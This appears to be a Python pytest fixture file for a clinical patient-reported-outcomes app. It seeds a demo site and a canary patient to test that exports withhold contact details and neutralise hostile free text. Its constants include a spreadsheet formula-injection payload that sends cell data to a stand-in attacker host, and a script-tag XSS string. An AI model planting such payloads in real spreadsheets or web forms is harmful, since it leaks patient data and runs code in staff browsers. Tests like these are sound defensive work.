"""Data for the export and API tests: the `flask demo` site plus a canary patient.

The canary has contact details that must never leave in a pseudonymised export, a free-text 'other' aid that
a spreadsheet would run as a formula, another that is markup, a skipped item and a staff correction.
"""
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlalchemy import select

from pro_app.coordinator.plans import enrol, ensure_default_plan
from pro_app.extensions import db
from pro_app.models import Answer, ClinicianAssessment, MRSS_SITE_CODES, Patient, Site, SurveyResponse, Visit
from pro_app.scoring import HAQ_AIDS, HAQ_CATEGORIES, HAQ_ITEMS

CANARY_EMAIL = "canary.7f3a91@example.org"
CANARY_PHONE = "+447700900777"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
MARKUP = '<script>alert("x")</script>'
DEMO_PASSWORD = "demo-password-for-tests"


def submit(visit: Visit, instrument: str, answers: dict, *, at: datetime | None = None, language: str = "en",
           version: str = "1.0") -> SurveyResponse:
    """A submitted questionnaire. Values: an int, "skip", or (value, text)."""
    at = at or datetime.combine(visit.target_date, datetime.min.time(), UTC) + timedelta(hours=9)
    response = SurveyResponse(visit=visit, instrument=instrument, version=version, language=language,
                              status="submitted", started_at=at, updated_at=at, submitted_at=at)
    for code, value in answers.items():
        if value == "skip":
            response.answers.append(Answer(item_code=code, value=None, skipped=True, answered_at=at))
        elif isinstance(value, tuple):
            response.answers.append(Answer(item_code=code, value=value[0], text=value[1], answered_at=at))
        else:
            response.answers.append(Answer(item_code=code, value=value, answered_at=at))
    db.session.add(response)
    visit.submitted_at = at
    return response


def haq_answers(score: int, **overrides) -> dict:
    answers = {code: score for category in HAQ_CATEGORIES for code in HAQ_ITEMS[category]}
    answers.update({f"aid_{aid}": 0 for aid in HAQ_AIDS})
    answers.update({f"help_{category}": 0 for category in HAQ_CATEGORIES})
    answers["pain"] = 40
    answers.update(overrides)
    return answers


def assess(visit: Visit, mrss: int = 1, fvc: float | None = 80.0, md: int = 4, **step1) -> ClinicianAssessment:
    events = {"renal_crisis": False, "fvc_decline": False, "lv_failure": False, "pah": False, **step1}
    assessment = ClinicianAssessment(visit=visit, assessed_on=visit.target_date, fvc_pct=fvc,
                                     fvc_equation="GLI-2012" if fvc else None, md_global=md,
                                     **{f"mrss_{site}": mrss for site in MRSS_SITE_CODES}, **events)
    db.session.add(assessment)
    return assessment


def visits_of(patient: Patient) -> dict[str, Visit]:
    return {v.code: v for v in db.session.scalars(select(Visit).where(Visit.patient_id == patient.id))}


def add_canary(site: Site, study_id: str = "CANARY-1") -> Patient:
    patient = Patient(site=site, study_id=study_id, email=CANARY_EMAIL, phone=CANARY_PHONE, language="de",
                      timezone=site.timezone, preferred_channel="sms")
    db.session.add(patient)
    enrol(patient, ensure_default_plan(), date.today() - timedelta(days=200))
    db.session.flush()
    v = visits_of(patient)
    submit(v["baseline"], "pt_global", {"pt_global": 4}, language="de")
    submit(v["baseline"], "haq", haq_answers(1, dress="skip", aid_other=(1, FORMULA)), language="de")
    submit(v["baseline"], "shaq", {"intestinal": 10, "breathing": "skip", "raynauds": 70, "finger_ulcers": 0,
                                   "overall": 55}, language="de")
    assess(v["baseline"], mrss=1, fvc=81.5, md=5)
    followup = submit(v["m3"], "pt_global", {"pt_global": 6}, language="de")
    submit(v["m3"], "haq", haq_answers(2, aid_other=(1, MARKUP), aid_cane=1), language="de")
    assess(v["m3"], mrss=1, fvc=78.0, md=4)
    corrected = followup.answers[0]
    corrected.original_value, corrected.original_skipped = corrected.value, False
    corrected.value, corrected.corrected_at = 5, datetime.now(UTC)
    db.session.commit()
    return patient


@pytest.fixture
def demo_site(app, runner):
    result = runner.invoke(args=["demo", "--password", DEMO_PASSWORD])
    assert result.exit_code == 0, result.output
    return db.session.scalar(select(Site).where(Site.code == "DEMO"))


@pytest.fixture
def canary(demo_site):
    return add_canary(demo_site)
